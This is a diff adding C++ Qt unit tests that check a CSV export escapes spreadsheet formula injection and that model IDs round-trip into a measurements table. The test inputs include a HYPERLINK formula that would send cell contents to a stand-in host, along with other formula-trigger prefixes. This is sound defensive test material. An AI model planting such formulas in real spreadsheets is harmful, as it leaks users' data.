@@ -2,7 +2,10 @@
 // Own measurements joined with a run: a further target a device, everything the run states untouched.
 #include "decode/owntargets.h"
 #include "core/trainingrunbuilder.h"
+#include "decode/csvtable.h"
+#include "decode/measurementsreader.h"
 #include "decode/resultsdecoder.h"
+#include "decode/tabletofillin.h"
 
 #include <QTest>
 
@@ -61,6 +64,57 @@ private Q_SLOTS:
         QCOMPARE(joined.run->measuredCount(own), 2U);
         QCOMPARE(joined.run->ownConditions(own)->device, u"Orin"_s);
         QVERIFY(!joined.run->ownConditions(0));
+    }
+    void tableToFillIn_runsNothing_andComesBack_whateverModelsAreCalled()
+    {
+        const QStringList ids{u"=HYPERLINK(\"http://example.org/?\"&A1,\"x\")"_s, u"+1+1"_s, u"-1-1"_s, u"@SUM(1+1)"_s, u"'quoted"_s,
+                              u"=x"_s, u"\t=1"_s, u"a\tb"_s, u"a b"_s, u"a\nb"_s, u"a\r\nb"_s, u"\n#x"_s, u"#remark"_s, u"a\"b"_s, u"\""_s, u"\"a\""_s,
+                              u"a,b;c"_s, u" a"_s, u"a "_s, u"a"_s, u"\u00a0a"_s, u"007"_s, u"1e5"_s, u"＝1"_s, u"a\u202eb"_s, u"\ufffea"_s, u"é-🚀"_s,
+                              QString(5000, u'x')};
+        TrainingRunBuilder builder;
+        builder.target(u"T4");
+        for (const QString &id : ids)
+            builder.addModel(id.toUtf8());
+        const TrainingRunPtr run = builder.finish();
+        const QString table = tableToFillIn(*run);
+        const std::optional<CsvTable> pasted = readCsv(table.toUtf8());
+        QVERIFY(pasted);
+        QCOMPARE(static_cast<qsizetype>(pasted->lines.size()), ids.size() + 1);
+        QString filledIn = u"model;device;precision;batch;p50;p99\r\n"_s; // as a German spreadsheet saves it
+        for (qsizetype row = 0; row < ids.size(); ++row) {
+            const CsvLine &line = pasted->lines.at(static_cast<std::size_t>(row + 1));
+            QCOMPARE(line.cells.size(), 6);
+            QString cell = line.cells.first();
+            QVERIFY2(!QStringView(u"=+-@＝＋－＠\t\r\n").contains(cell.front()), qPrintable(cell));
+            filledIn += u'"' + cell.replace(u'"', u"\"\""_s) + u"\";Orin;;;%1,5;\r\n"_s.arg(row + 1);
+        }
+        const auto read = readMeasurements(filledIn.toUtf8());
+        QVERIFY(read);
+        const JoinedRun joined = withOwnTargets(*run, read->rows);
+        for (qsizetype row = 0; row < ids.size(); ++row)
+            QCOMPARE(joined.run->latency(static_cast<Row>(row), 1).value, static_cast<double>(row) + 1.5);
+        QCOMPARE(withOwnTargets(*run, {measured(u"=x"_s, u"Orin"_s, 3)}).run->latency(5, 1).value, 3.0); // where it lost its apostrophe
+    }
+    void cellThatIsAlsoAnotherModelsId_joinsNeither()
+    {
+        TrainingRunBuilder builder;
+        for (const char *const id : {"=x", "'=x"})
+            builder.addModel(id);
+        QCOMPARE(withOwnTargets(*builder.finish(), {measured(u"'=x"_s, u"Orin"_s, 3)}).joined, 0U);
+    }
+    void formerIds_joinInTheSampleAlone()
+    {
+        const QByteArray models = R"("models":[{"modelId":"falls-acme-1-t1--00ba18","metrics":{"map5095":50,"latency":{"T4":1.5}}},
+            {"modelId":"falls-acme-1-t1--8cabaa","metrics":{"map5095":60,"latency":{"T4":3}}}]})";
+        const std::vector<OwnMeasurement> rows{measured(u"falls-before-1-t1--8cabaa"_s, u"Orin"_s, 4.5),
+                                               measured(u"stairs-before-1-t1--00ba18"_s, u"Orin"_s, 9)};
+        const auto sample = decodeResults(QByteArray(R"({"sample":{"figures":"published"},)" + models));
+        const auto other = decodeResults(QByteArray('{' + models));
+        QVERIFY(sample && other);
+        const JoinedRun joined = withOwnTargets(*sample->run, rows);
+        QCOMPARE(joined.joined, 1U);
+        QCOMPARE(joined.run->latency(1, 1).value, 4.5);
+        QCOMPARE(withOwnTargets(*other->run, rows).joined, 0U);
     }
     void whatTheRunStates_staysAsItWas()
     {
